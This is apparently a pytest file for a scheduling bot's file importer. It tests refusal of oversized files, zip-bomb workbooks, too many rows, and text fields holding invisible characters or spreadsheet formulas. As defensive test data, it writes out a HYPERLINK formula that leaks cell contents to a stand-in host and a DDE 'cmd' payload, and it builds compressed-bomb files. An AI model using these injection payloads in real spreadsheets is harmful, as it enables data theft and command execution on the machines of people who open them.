"""Import limits and shown text: big files, zip bombs and long files refused before they are
read; titles, adviser names and notes with invisible characters or formula text refused."""

from __future__ import annotations

import csv
import os
import sqlite3
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook

from bot.config import Settings
from bot.importer import (
    ImportFailed,
    ImportLimits,
    import_workshops,
    parse_adviser_rows,
    parse_rows,
    parse_shift_rows,
    read_table,
)
from tests.support.commands import cli
from tests.support.schedules import GOOD, HEADER, stored_counts

BELGRADE = ZoneInfo("Europe/Belgrade")
SHEET = "xl/worksheets/sheet1.xml"
ROW = "tutin,sport,youth,bs,Fudbal,,2027-07-03,10:00,120,22,"


def write(tmp_path: Path, text: str, name: str = "schedule.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def workbook(tmp_path: Path, lines: list[list[object]], name: str = "schedule.xlsx") -> Path:
    book = Workbook()
    for line in lines:
        book.active.append(line)
    path = tmp_path / name
    book.save(path)
    return path


def good_lines() -> list[list[str]]:
    return list(csv.reader(GOOD.strip().splitlines()))


def good_workbook(tmp_path: Path) -> Path:
    return workbook(tmp_path, good_lines())


def padded(path: Path, padding: str, out: Path) -> Path:
    """A copy of a workbook whose sheet XML ends in `padding` (an XML comment: still valid)."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == SHEET:
                data += f"<!--{padding}-->".encode()
            z.writestr(member, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out


@pytest.fixture
def no_openpyxl(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if openpyxl is asked to open a workbook."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl opened a workbook that should have been refused")

    monkeypatch.setattr("openpyxl.load_workbook", refuse)


def refusal(path: Path, limits: ImportLimits | None = None) -> str:
    with pytest.raises(ImportFailed) as failed:
        read_table(path, limits)
    assert len(failed.value.errors) == 1
    return failed.value.errors[0]


def test_the_defaults_are_the_settings_defaults() -> None:
    assert ImportLimits.of(Settings(_env_file=None)) == ImportLimits()  # type: ignore[call-arg]
    assert ImportLimits() == ImportLimits(5_000_000, 10_000, 50_000_000)


# -- size -------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["schedule.csv", "schedule.xlsx"])
def test_a_file_over_the_byte_limit_is_refused_before_it_is_read(tmp_path, name, no_openpyxl):
    # Not a workbook at all: the size is what is refused, so nothing was opened.
    path = write(tmp_path, GOOD + ROW * 40, name)
    size = path.stat().st_size
    assert size > 2000
    message = refusal(path, ImportLimits(max_bytes=2000))
    assert message == (
        f"{path}: not read: {size:,} bytes, more than IMPORT_MAX_BYTES (2,000); split the "
        "file and import the parts one by one"
    )


# -- zip bombs --------------------------------------------------------------------------------
def test_a_workbook_unpacking_past_the_limit_is_refused_before_openpyxl_opens_it(
    tmp_path, no_openpyxl
):
    # Random text packs about 2 to 1, so the workbook is refused for its total alone.
    bomb = padded(good_workbook(tmp_path), os.urandom(150_000).hex(), tmp_path / "bomb.xlsx")
    with zipfile.ZipFile(bomb) as z:
        unpacked = sum(m.file_size for m in z.infolist())
    assert bomb.stat().st_size < 200_000 < unpacked
    message = refusal(bomb, ImportLimits(max_uncompressed_bytes=200_000))
    assert message == (
        f"{bomb}: not read: it unpacks to {unpacked:,} bytes, more than "
        "IMPORT_MAX_UNCOMPRESSED_BYTES (200,000)"
    )


def test_the_padded_workbook_is_otherwise_a_good_one(tmp_path):
    """The bomb above is refused for its size, not because openpyxl could not read it."""
    plain = read_table(good_workbook(tmp_path))
    bomb = padded(good_workbook(tmp_path), os.urandom(150_000).hex(), tmp_path / "bomb.xlsx")
    assert read_table(bomb) == plain
    _, errors = parse_rows(plain.rows, BELGRADE, header=plain.header)
    assert errors == []


def test_a_member_packed_like_a_zip_bomb_is_refused_within_the_size_limit(tmp_path, no_openpyxl):
    # 2 MB of spaces packs to about 2 KB: 1000 to 1, where a real sheet packs 5-20 to 1.
    bomb = padded(good_workbook(tmp_path), " " * 2_000_000, tmp_path / "bomb.xlsx")
    message = refusal(bomb)
    assert message.startswith(f"{bomb}: not read: '{SHEET}' inside is packed ")
    assert message.endswith(" to 1, far more than a spreadsheet packs (at most 100 to 1 is read)")


def test_a_zip_of_very_many_files_and_a_file_that_is_no_zip_are_refused(tmp_path, no_openpyxl):
    many = tmp_path / "many.xlsx"
    with zipfile.ZipFile(many, "w") as z:
        for i in range(1001):
            z.writestr(f"f{i}", "")
    assert (
        refusal(many) == f"{many}: not read: 1,001 files inside, more than a workbook has (1,000)"
    )
    fake = write(tmp_path, GOOD, "fake.xlsx")
    assert refusal(fake) == f"{fake}: not a readable XLSX workbook (not a zip file)"


# -- rows -------------------------------------------------------------------------------------
def test_a_csv_over_the_row_limit_is_refused_without_reading_the_rest(tmp_path):
    path = tmp_path / "long.csv"
    # Blank lines do not count; what follows the row too many is never decoded (the text is
    # read in chunks of a few KB: the bytes that are no UTF-8 come after 50 KB of rows).
    rows = f"{HEADER}\n{ROW}\n\n,,\n{ROW}\n{ROW}\n" + f"{ROW}\n" * 1000
    path.write_bytes(rows.encode() + b"\xff\xfe\n")
    assert refusal(path, ImportLimits(max_rows=3)) == (
        f"{path}: more than 3 rows under the header (IMPORT_MAX_ROWS); split the file and "
        "import the parts one by one"
    )
    at_limit = write(tmp_path, f"{HEADER}\n{ROW}\n\n{ROW}\n{ROW}\n\n\n")
    table = read_table(at_limit, ImportLimits(max_rows=3))
    assert [bool(any(r.values())) for r in table.rows] == [True, False, True, True]


def test_an_xlsx_over_the_row_limit_is_refused(tmp_path):
    lines = good_lines()
    path = workbook(tmp_path, [*lines, [None] * 11, lines[1]])
    assert refusal(path, ImportLimits(max_rows=2)).startswith(f"{path}: more than 2 rows under")
    assert len(read_table(path, ImportLimits(max_rows=3)).rows) == 4


# -- text the bot shows -----------------------------------------------------------------------
def rows_of(header: str, *lines: str) -> list[dict[str, str]]:
    names = header.split(",")
    return [dict(zip(names, line.split(","), strict=True)) for line in lines]


def test_titles_with_invisible_characters_or_formula_text_are_refused_by_row():
    def row(title_sr: str, title_en: str = "") -> str:
        return f"tutin,sport,youth,bs,{title_sr},{title_en},2027-07-03,10:00,120,22,"

    rows = rows_of(
        HEADER,
        row("Fudbal", "Football \u202ellab"),
        row("Fudbal\tza mlade"),
        row('=HYPERLINK("http://x.example/?"&A1)'),
        row("+381 trening"),
        row("@SUM(1)"),
        row("-1+2"),
        row("Porodični dan 👨\u200d👩\u200d👧 -- sport = zdravlje"),
        row("Fudbal\u200b"),
        row("Fudbal \u2066za mlade\u2069"),
    )
    plans, errors = parse_rows(rows, BELGRADE)
    assert errors == [
        "row 2: title_en contains an invisible character (U+202E RIGHT-TO-LEFT OVERRIDE); "
        "remove it",
        "row 3: title_sr contains an invisible character (U+0009 control character); remove it",
        "row 4: title_sr starts with '=', which spreadsheets take for a formula; begin with a "
        "letter or digit",
        "row 5: title_sr starts with '+', which spreadsheets take for a formula; begin with a "
        "letter or digit",
        "row 6: title_sr starts with '@', which spreadsheets take for a formula; begin with a "
        "letter or digit",
        "row 7: title_sr starts with '-', which spreadsheets take for a formula; begin with a "
        "letter or digit",
        "row 9: title_sr contains an invisible character (U+200B ZERO WIDTH SPACE); remove it",
        "row 10: title_sr contains an invisible character (U+2066 LEFT-TO-RIGHT ISOLATE); "
        "remove it",
    ]
    assert [p.row for p in plans] == [8]  # emoji joiners and a later '=' are fine


def test_adviser_names_and_shift_notes_refuse_invisible_characters():
    header = "adviser,slot_minutes,centre,weekday,from,to,day_off"
    _, errors = parse_adviser_rows(
        rows_of(
            header,
            "Jelena\u202e,,pirot,mon,09:00,10:00,",
            "=cmd|' /C calc'!A0,,pirot,tue,09:00,10:00,",
            "Marko,,pirot,wed,09:00,10:00,",
        )
    )
    assert errors == [
        "row 2: adviser contains an invisible character (U+202E RIGHT-TO-LEFT OVERRIDE); remove it",
        "row 3: adviser starts with '=', which spreadsheets take for a formula; begin with a "
        "letter or digit",
    ]
    header = "centre,day,start,end,task,places,note,repeat_weekly_until"
    plans, errors = parse_shift_rows(
        rows_of(
            header,
            "pirot,2027-10-25,14:00,17:00,school,3,Bring \x07 a pen,",
            # A note may start with a phone number; exports escape it (bot/spreadsheet.py).
            "pirot,2027-10-26,14:00,17:00,school,3,+381 64 123 4567 (Ana),",
        ),
        BELGRADE,
    )
    assert errors == [
        "row 2: note contains an invisible character (U+0007 control character); remove it"
    ]
    assert [p.note for p in plans] == ["+381 64 123 4567 (Ana)"]


async def test_one_bad_title_imports_nothing(app, tmp_path):
    before = await stored_counts(app)
    path = write(
        tmp_path, GOOD + "pirot,legal,adults,sr,Pravna\u202e pomoć,,2027-10-20,18:00,60,10,\n"
    )
    with pytest.raises(ImportFailed) as failed:
        await import_workshops(app, read_table(path))
    assert [e.split(":")[0] for e in failed.value.errors] == ["row 4"]
    assert await stored_counts(app) == before


# -- the command line ---------------------------------------------------------------------------
def count_sessions(db: Path) -> int:
    with sqlite3.connect(db) as conn:
        return int(conn.execute("SELECT count(*) FROM sessions").fetchone()[0])


def test_cli_limits_are_settings_and_a_refusal_is_one_line(cli_db: Path, tmp_path: Path):
    before = count_sessions(cli_db)
    path = write(tmp_path, GOOD)
    rows = cli("import", "workshops", str(path), db=cli_db, env={"IMPORT_MAX_ROWS": "1"})
    assert rows.returncode == 2 and rows.stdout == ""
    assert rows.stderr.splitlines() == [
        f"{path}: more than 1 row under the header (IMPORT_MAX_ROWS); split the file and "
        "import the parts one by one"
    ]
    big = write(tmp_path, GOOD + ROW * 20, "big.csv")
    size = cli("import", "workshops", str(big), db=cli_db, env={"IMPORT_MAX_BYTES": "1000"})
    assert size.returncode == 2
    assert (
        size.stderr.startswith(f"{big}: not read: ") and "IMPORT_MAX_BYTES (1,000)" in size.stderr
    )
    assert len(size.stderr.splitlines()) == 1
    assert count_sessions(cli_db) == before
    done = cli("import", "workshops", str(path), db=cli_db, env={"IMPORT_MAX_ROWS": "2"})
    assert done.returncode == 0, done.stderr
    assert count_sessions(cli_db) == before + 4
